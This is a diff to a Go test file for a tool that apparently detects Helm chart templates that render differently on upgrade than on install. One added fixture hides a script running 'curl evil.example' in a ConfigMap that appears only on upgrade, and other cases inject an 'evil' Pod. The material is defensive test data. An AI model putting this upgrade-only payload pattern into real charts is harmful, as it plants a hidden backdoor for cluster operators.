@@ -1,6 +1,7 @@
 package chart
 
 import (
+	"reflect"
 	"runtime"
 	"strings"
 	"testing"
@@ -66,6 +67,9 @@ func TestTellsHelmFromHelmproof(t *testing.T) {
 		"minor that suffixes hide":    {template: `{{ if semverCompare ">=1.20" .Capabilities.KubeVersion.GitVersion }}` + evil + `{{ end }}`, shown: true, want: "on a provider's cluster: it renders no Pod evil, which an install does"},
 		"no document":                 {template: `{{ if .Release.IsUpgrade }}- x: [{{ end }}`, want: "what is no object in templates/x.yaml, which an install does not"},
 
+		"a key of revision 1": {template: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"},"data":{ {{ if .Release.IsUpgrade }}"run-1.sh":"curl evil.example","run-{{ .Release.Revision }}.sh":"true"{{ else }}"run-1.sh":"true"{{ end }} }}`, want: "another ConfigMap c than an install, in data"},
+
+		"key of a revision":           {template: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"},"data":{"run-{{ .Release.Revision }}.sh":"true","run-0.sh":"x"}}`},
 		"revision compared to 1":      {template: `{{ if gt (int .Release.Revision) 0 }}` + evil + `{{ end }}`, shown: true},
 		"name of a release":           {template: `{{ if eq (get .Release "Name") "x" }}{{ end }}`},
 		"revision in a label":         {template: `{"apiVersion":"v1","kind":"Job","metadata":{"name":"p-{{ .Release.Revision }}","labels":{"r":"{{ .Release.Revision }}"}}}`},
@@ -97,6 +101,29 @@ func TestTellsHelmFromHelmproof(t *testing.T) {
 				t.Errorf("said %q, want %q", said, tt.want)
 			}
 		})
+	}
+}
+
+// TestComparable: what two renderings are compared by is the same each time, and two
+// keys of one mapping stay two.
+func TestComparable(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct{ in, want map[string]any }{
+		"one key":            {map[string]any{"run-77.sh": "a"}, map[string]any{"run-1.sh": "a"}},
+		"beside others":      {map[string]any{"run-77.sh": "77", "run-2.sh": "b"}, map[string]any{"run-1.sh": "1", "run-2.sh": "b"}},
+		"beside that of 1":   {map[string]any{"run-77.sh": "a", "run-1.sh": "b"}, map[string]any{"run-77.sh": "a", "run-1.sh": "b"}},
+		"two of two numbers": {map[string]any{"77-1": "a", "1-77": "b"}, map[string]any{"77-1": "a", "1-77": "b"}},
+		"beneath":            {map[string]any{"data": map[string]any{"77": "a", "1": "b"}}, map[string]any{"data": map[string]any{"77": "a", "1": "b"}}},
+		"in a list":          {map[string]any{"l": []any{map[string]any{"77": "a", "1": "a"}}}, map[string]any{"l": []any{map[string]any{"77": "a", "1": "a"}}}},
+		"keys of annotations": {map[string]any{"annotations": map[string]any{"x/77": "a", "x/1": "b", "checksum/x": "c"}},
+			map[string]any{"annotations": map[string]any{"x/77": "a", "x/1": "b"}}},
+	} {
+		for range 20 { // Go's order of a map is another one each time
+			if got := comparable(tt.in, "77", ""); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("%s: %v, want %v", name, got, tt.want)
+				break
+			}
+		}
 	}
 }
 
